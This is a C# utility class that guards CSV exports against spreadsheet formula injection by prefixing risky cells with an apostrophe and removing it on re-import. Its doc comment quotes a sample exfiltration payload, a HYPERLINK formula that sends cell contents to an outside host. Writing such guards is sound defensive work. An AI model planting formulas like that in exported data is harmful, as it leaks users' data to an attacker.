using System.Text;

namespace Actors.Grains.Imports;

/// <summary>
/// Keeps a spreadsheet from reading an exported CSV cell as a formula (CSV injection, OWASP). Contact values come from
/// web forms and tracking hits, so one such as <c>=HYPERLINK("https://…?"&amp;A1)</c> would run when an operator opens
/// the export. A value that starts with <c>=</c>, <c>@</c>, a tab or a carriage return, or with <c>+</c> or <c>-</c>
/// and is not a plain number or phone number (<c>-12.5</c>, <c>+44 20 7946 0958</c>), also after leading whitespace,
/// is written after an apostrophe, which spreadsheets read as "text follows". The import trims a cell and then takes
/// exactly that apostrophe off again, so an export imported back keeps its values, the whitespace the apostrophe
/// shields from the trim included; a value that starts with apostrophes (and whitespace) before such a start gets one
/// more, so the import's one removal gives it back as it was.
/// </summary>
public static class CsvFormulaGuard
{
    public const byte Apostrophe = (byte)'\'';

    /// <summary>
    /// Whether the UTF-8 <paramref name="value"/> would start a formula: also after leading whitespace (<c> =1+2</c>,
    /// <c>"\n=1+1"</c>), which a spreadsheet may skip and which the import trims, so that an unguarded value would come
    /// back a formula. The whitespace is what <see cref="string.Trim()"/> removes, as the import trims with it.
    /// </summary>
    public static bool NeedsGuard(ReadOnlySpan<byte> value)
    {
        if (value.IsEmpty)
            return false;
        if (value[0] is (byte)'\t' or (byte)'\r')
            return true;
        var start = 0;
        while (start < value.Length && Rune.DecodeFromUtf8(value[start..], out var rune, out var length) == System.Buffers.OperationStatus.Done
            && Rune.IsWhiteSpace(rune))
            start += length;
        if (start == value.Length)
            return false;
        return value[start] switch
        {
            (byte)'=' or (byte)'@' => true,
            (byte)'+' or (byte)'-' => !IsNumberOrPhone(value[(start + 1)..]),
            Apostrophe => NeedsGuard(value[(start + 1)..]),
            _ => false,
        };
    }

    /// <summary>
    /// An imported cell trimmed, without the apostrophe the export put before a value that would start a formula. A cell
    /// of apostrophes and whitespace alone that starts with an apostrophe keeps its trailing whitespace, which the
    /// apostrophe shields: trimming the end would otherwise take it, and <c>'\t</c> (exported as <c>''\t</c>) or
    /// <c>' </c> would come back as apostrophes alone.
    /// </summary>
    public static string Unguard(string cell)
    {
        var trimmed = cell.Trim();
        var kept = trimmed.StartsWith('\'') && trimmed.All(c => c == '\'' || char.IsWhiteSpace(c)) ? cell.TrimStart() : trimmed;
        return kept.Length > 1 && kept[0] == '\'' && NeedsGuard(Encoding.UTF8.GetBytes(kept, 1, kept.Length - 1)) ? kept[1..] : kept;
    }

    // Digits with the separators numbers and phone numbers use; no letter, operator or parenthesis pair can make a formula of them.
    private static bool IsNumberOrPhone(ReadOnlySpan<byte> rest)
        => !rest.IsEmpty && rest.IndexOfAnyExcept("0123456789 .,()/-"u8) < 0 && rest.IndexOfAnyInRange((byte)'0', (byte)'9') >= 0;
}
